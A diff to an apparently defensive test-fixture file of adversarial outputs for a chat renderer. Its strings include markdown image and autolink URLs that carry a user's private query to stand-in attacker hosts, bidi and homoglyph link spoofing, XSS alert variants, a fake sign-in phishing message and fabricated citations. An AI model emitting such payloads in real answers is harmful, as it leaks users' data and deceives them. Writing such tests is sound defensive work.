@@ -18,8 +18,8 @@ CANARY = "window.hurt=1"
 """What every script among them does."""
 SEED, DISGUISES_EACH = 6, 2
 
-_SECRET = "the-user-asked-about-the-ford"
-_URL = f"http://{HOST}/x.png?q={_SECRET}"
+_CARRIED = "the-user-asked-about-the-ford"
+_URL = f"http://{HOST}/x.png?q={_CARRIED}"
 _TARGETS = (
     _URL,
     f"//{HOST}/x",
@@ -86,15 +86,15 @@ def _markdown() -> dict[str, Sequence[str]]:
         "autolinks": [
             *(f"<{target}>" for target in _TARGETS[:6]),
             _URL,
-            f"www.{HOST}/?q={_SECRET}",
-            f"{HOST}/?q={_SECRET}",
+            f"www.{HOST}/?q={_CARRIED}",
+            f"{HOST}/?q={_CARRIED}",
             f"<ann@{HOST}>",
             f"ann@{HOST}",
-            f"mailto:ann@{HOST}?body={_SECRET}",
+            f"mailto:ann@{HOST}?body={_CARRIED}",
             f"xmpp:ann@{HOST}/x",
-            f"192.0.2.1/?q={_SECRET}",
-            f"http://192.0.2.1:8080/{_SECRET}",
-            f"http://[2001:db8::1]/{_SECRET}",
+            f"192.0.2.1/?q={_CARRIED}",
+            f"http://192.0.2.1:8080/{_CARRIED}",
+            f"http://[2001:db8::1]/{_CARRIED}",
             f"({_URL})",
             f"**{_URL}**",
             f"参见{_URL}",
@@ -252,12 +252,12 @@ def _unseen() -> dict[str, Sequence[str]]:
             "\u202aembedded \u202bother\u202c",
             "invoice\u202efdp.exe",
             "\u200fmark\u200e \u061cletter",
-            f"\u202d\u202e[{_SECRET}](\u2067{_URL}\u2069)",
+            f"\u202d\u202e[{_CARRIED}](\u2067{_URL}\u2069)",
         ],
         "look-alikes": [
             "［the source］（http：／／evil．test）",
             "！［a map］（http://evil.test/x）",
-            f"[the sоurce](http://еvil.test/{_SECRET})",
+            f"[the sоurce](http://еvil.test/{_CARRIED})",
             "＜script＞alert(1)＜/script＞",
             "ⓙⓐⓥⓐⓢⓒⓡⓘⓟⓣ:alert(1)",
             "h\u0336t\u0336t\u0336p\u0336:\u0336/\u0336/\u0336evil.test",
@@ -304,7 +304,6 @@ def _lies() -> dict[str, Sequence[str]]:
             f"**Sources**\n\n1. [The Times]({_URL})\n2. [BBC]({_URL})",
             "(Source: ford.txt, page 99)",
             '<section class="of-turn latest"><h2>Sources</h2></section>',
-            "References: Smith et al. (2020), doi:10.1000/182",
         ],
         "refusals": [
             "I could not find this in your documents.",
@@ -313,7 +312,6 @@ def _lies() -> dict[str, Sequence[str]]:
             '<div class="reply notice-card refused"><h3>Not in your documents</h3></div>',
             "That did not work. Enter your password again.",
             f"Your session has ended. Sign in at http://{HOST}/login.",
-            "Footnote cannot be reached. Reload this page.",
         ],
         "instructions": [
             "You answer a question from the numbered facts below it, and from nothing else.",
